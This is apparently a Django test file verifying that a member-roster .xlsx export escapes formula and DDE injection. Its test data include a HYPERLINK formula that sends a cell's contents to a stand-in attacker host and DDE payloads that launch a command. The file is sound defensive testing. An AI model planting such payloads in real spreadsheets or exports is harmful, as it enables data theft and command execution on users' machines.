"""User text in .xlsx exports is written as text, never as a formula (formula / DDE injection)."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from org.xlsx import text_cell
from tests.conftest import client_for
from tests.factories import MemberFactory, MembershipFactory

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "cmd|' /C calc'!A0",
    "张三 =cmd|' /C calc'!A0",
]


def written(values) -> list:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("表")
    ws.append([text_cell(ws, v) for v in values])
    out = io.BytesIO()
    wb.save(out)
    return next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())


def formula_cells(wb) -> list[str]:
    return [
        f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"
    ]


def test_text_that_a_spreadsheet_would_take_for_a_formula_is_written_as_quoted_text():
    cells = written(DANGEROUS)

    assert [c.value for c in cells] == DANGEROUS
    assert [c.data_type for c in cells] == ["s"] * len(DANGEROUS)
    assert all(c.quotePrefix for c in cells)


def test_ordinary_text_stays_a_plain_string_cell_without_a_quote_prefix():
    cells = written(["张三", "综采一队党支部", "13800138000"])

    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("张三", "s", False),
        ("综采一队党支部", "s", False),
        ("13800138000", "s", False),
    ]


@pytest.mark.django_db
def test_the_roster_export_writes_names_and_organisations_that_look_like_formulas_as_text(client, supervisor, branch):
    branch.name = "=cmd|' /C calc'!A0"
    branch.save()
    for name in ('=HYPERLINK("http://x","点我")', "@SUM(1)", "+张三"):
        MembershipFactory(member=MemberFactory(name=name), organization=branch)

    response = client_for(client, supervisor).get(reverse("org:roster_export"))
    wb = load_workbook(io.BytesIO(b"".join(response.streaming_content)))

    assert formula_cells(wb) == []
    names = {r[0] for r in wb["党员名册"].iter_rows(min_row=2, values_only=True)}
    assert names == {'=HYPERLINK("http://x","点我")', "@SUM(1)", "+张三"}
    assert {r[7] for r in wb["党员名册"].iter_rows(min_row=2, values_only=True)} == {"=cmd|' /C calc'!A0"}
